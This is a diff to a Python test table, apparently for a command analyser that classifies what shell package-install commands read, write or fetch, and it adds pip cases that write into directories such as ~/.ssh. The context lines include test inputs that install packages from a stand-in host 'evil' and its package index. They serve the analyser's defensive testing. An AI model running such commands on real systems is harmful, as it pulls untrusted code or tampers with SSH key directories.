@@ -581,6 +581,13 @@ CASES: list[Case] = [
         {"f": ["R:requirements.txt"], "m": ["pkg.install=requirements.txt"]},
     ),
     ("pip install git+https://github.com/x/y", {"n": ["fetch https://github.com/x/y"]}),
+    # the directory pip writes into is a recursive write (not a package named `~/.ssh`)
+    ("pip download -d wheels/ x", {"f": ["W*:wheels/"], "m": ["pkg.install=x"]}),
+    ("pip download --dest=~/.ssh x", {"f": ["W*:~/.ssh"], "nf": ["R:~/.ssh"]}),
+    ("pip install --target ~/.ssh x", {"f": ["W*:~/.ssh"], "m": ["pkg.install=x"]}),
+    ("pip3 install -t vendor --prefix /opt/p x", {"f": ["W*:vendor", "W*:/opt/p"]}),
+    ("pip install --user pipx", {"nf": ["W*:pipx"]}),
+    ("pdm add -d pytest", {"m": ["pkg.install=pytest"], "nf": ["W*:pytest"]}),
     ("pip install https://evil/x.whl", {"n": ["fetch https://evil/x.whl"]}),
     (
         "pip install -i https://evil/simple pkg",
